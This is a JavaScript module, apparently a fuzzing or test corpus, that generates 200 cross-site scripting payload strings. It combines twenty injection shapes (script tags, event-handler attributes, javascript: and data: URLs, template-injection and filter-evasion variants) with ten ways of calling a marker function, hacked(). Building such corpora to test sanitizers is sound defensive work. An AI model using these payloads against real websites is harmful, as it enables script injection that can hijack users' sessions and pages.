// xss.mjs - 200 strings that are code wherever text is taken for markup. All call hacked().
const calls = ['hacked()', 'window.hacked()', 'top.hacked()', 'self["hacked"]()', '(hacked)()', 'hacked``', 'globalThis.hacked()', 'eval("hacked()")', 'Function("hacked()")()', 'setTimeout(hacked)'];
const shapes = [
  (c) => `<script>${c}</script>`,
  (c) => `<img src=x onerror=${c}>`,
  (c) => `"><svg onload=${c}>`,
  (c) => `'><iframe src="javascript:${c}"></iframe>`,
  (c) => `<a href="javascript:${c}">x</a>`,
  (c) => `</textarea><script>${c}</script>`,
  (c) => `<details open ontoggle=${c}>`,
  (c) => `<input autofocus onfocus=${c}>`,
  (c) => `<video><source onerror=${c}></video>`,
  (c) => `<svg><animate onbegin=${c} attributeName=x dur=1s>`,
  (c) => `<math><mtext><img src onerror=${c}></mtext></math>`,
  (c) => `</title><img src=x onerror=${c}>`,
  (c) => `<style>@import 'javascript:${c}';</style>`,
  (c) => `{{constructor.constructor('${c}')()}}`,
  (c) => '${' + c + '}',
  (c) => `javascript:${c}`,
  (c) => `data:text/html,<script>${c}</script>`,
  (c) => `<!--><script>${c}</script>-->`,
  (c) => `&lt;script&gt;${c}&lt;/script&gt;<b onmouseover=${c}>`,
  (c) => `\u0000<scr\u0000ipt>${c}</script>`,
];
export const strings = shapes.flatMap((shape) => calls.map((call) => shape(call)));
